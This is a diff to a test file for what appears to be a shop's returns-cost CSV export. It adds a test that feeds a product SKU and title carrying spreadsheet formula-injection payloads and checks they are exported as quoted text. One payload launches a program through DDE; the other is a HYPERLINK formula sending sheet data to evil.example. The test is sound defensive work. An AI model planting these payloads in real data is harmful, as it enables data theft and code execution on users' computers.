@@ -124,6 +124,22 @@ def test_dashboard_shows_what_returns_cost_per_product(client, owner, shop, carr
     assert rows[1][1:] == [NAPKINS["sku"], NAPKINS["title"], "2", "49.80", "EUR"]
 
 
+def test_a_product_named_like_a_formula_is_text_in_the_csv(client, owner, shop, carrier):
+    # A shop system (or whoever can write into it) names a product so that opening the
+    # export in a spreadsheet sends the sheet away or starts a program.
+    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    product = dict(NAPKINS, sku="+cmd|' /C calc'!A0", title=hyperlink)
+    order = make_order(shop, lines=[dict(product, quantity=2)])
+    track(order, "delivered", days_ago=3)
+    accept_return(make_return(order, return_line(order, product["sku"], quantity=2, reason="too_small")))
+    client.force_login(owner)
+
+    [_header, row] = csv_rows(client, "returns_cost")
+
+    assert row[1:3] == ["'+cmd|' /C calc'!A0", "'" + hyperlink]
+    assert row[3:5] == ["2", "49.80"]  # numbers are still numbers
+
+
 def test_bars_are_scaled_within_each_currency():
     chart = dashboard.Chart(
         "money",
